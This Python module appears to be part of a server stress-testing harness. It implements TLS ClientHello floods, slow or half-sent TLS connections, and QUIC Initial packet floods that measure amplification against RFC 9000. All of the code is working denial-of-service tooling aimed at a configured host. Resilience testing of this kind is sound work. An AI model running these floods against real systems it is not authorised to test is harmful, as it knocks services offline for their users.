"""Attacks on the beginnings of connections: TLS and QUIC handshakes that lead to nothing."""

import select
import socket
import ssl
import time

from . import HOST
from .found import Found

CONNECTIONS = 64
#: Different first packets; each names a connection of its own.
INITIALS = 2_000
SOCKETS = 64
#: RFC 9000, 8.1: before it knows the address, a server sends no more than this times what it got.
AMPLIFICATION_MAX = 3


def client_hello() -> bytes:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def hellos(port: int, seconds: float) -> Found:
    """One ClientHello after the other: the server computes a signature, the attacker nothing."""
    hello, found = client_hello(), Found()
    until = time.monotonic() + seconds
    waiting: dict[socket.socket, float] = {}
    while (now := time.monotonic()) < until:
        while len(waiting) < CONNECTIONS:
            try:
                one = socket.create_connection((HOST, port), 5)
            except OSError:
                found.refused += 1
                break
            one.sendall(hello)
            one.setblocking(False)
            found.connections += 1
            found.bytes += len(hello)
            waiting[one] = now
        readable, _, _ = select.select(list(waiting), [], [], 0.05)
        for one in readable:
            try:
                how = "server's hello" if one.recv(1 << 16) else "closed"
            except OSError as error:
                how = type(error).__name__
            found.ends[how] += 1
            waiting.pop(one)
            one.close()
    return found


def silence(port: int, seconds: float) -> Found:
    """Connections that are opened and say nothing, or half a ClientHello."""
    hello, found = client_hello(), Found()
    until = time.monotonic() + seconds
    waiting: dict[socket.socket, float] = {}
    while (now := time.monotonic()) < until:
        while len(waiting) < CONNECTIONS * 8:
            try:
                one = socket.create_connection((HOST, port), 5)
            except OSError:
                found.refused += 1
                break
            if found.connections % 2:
                one.sendall(hello[: len(hello) // 2])
            found.connections += 1
            waiting[one] = now
        poll = select.poll()
        numbers = {one.fileno(): one for one in waiting}
        for number in numbers:
            poll.register(number, select.POLLIN)
        for number, _ in poll.poll(200):
            one = numbers[number]
            try:
                piece = one.recv(1 << 16)
                how = "closed after an alert" if piece else "closed"
            except OSError as error:
                how = type(error).__name__
            found.ends[how] += 1
            found.longest = max(found.longest, time.monotonic() - waiting.pop(one))
            one.close()
    return found


def first_packets(count: int) -> list[bytes]:
    from aioquic.quic.configuration import QuicConfiguration
    from aioquic.quic.connection import QuicConnection

    packets = []
    for _ in range(count):
        client = QuicConnection(configuration=QuicConfiguration(is_client=True, alpn_protocols=["h3"], server_name="localhost"))
        client.connect((HOST, 1), now=0.0)
        packets += [packet for packet, _ in client.datagrams_to_send(now=0.0)]
    return packets


def initials():
    """First packets of QUIC, from many ports, none followed by a second."""
    packets = first_packets(INITIALS)

    def attack(port: int, seconds: float) -> Found:
        found = Found()
        sockets = [socket.socket(type=socket.SOCK_DGRAM) for _ in range(SOCKETS)]
        for one in sockets:
            one.connect((HOST, port))
            one.setblocking(False)
        until = time.monotonic() + seconds
        received = number = 0
        while time.monotonic() < until:
            for one in sockets:
                packet = packets[number % len(packets)]
                number += 1
                try:
                    one.send(packet)
                    found.bytes += len(packet)
                except OSError:
                    found.refused += 1
            for one in sockets:
                try:
                    while piece := one.recv(1 << 16):
                        received += len(piece)
                        found.ends[kind(piece)] += 1
                except OSError:
                    continue
        found.connections = number
        found.amplification = received / max(found.bytes, 1)
        return found

    return attack


def kind(packet: bytes) -> str:
    """RFC 9000, 17.2."""
    if not packet[0] & 0x80:
        return "stateless reset"
    if packet[1:5] == bytes(4):
        return "version negotiation"
    return ("initial", "0-RTT", "handshake", "retry")[packet[0] >> 4 & 3]


ATTACKS = {"tls-hellos": lambda: hellos, "tls-silence": lambda: silence, "quic-initials": initials}
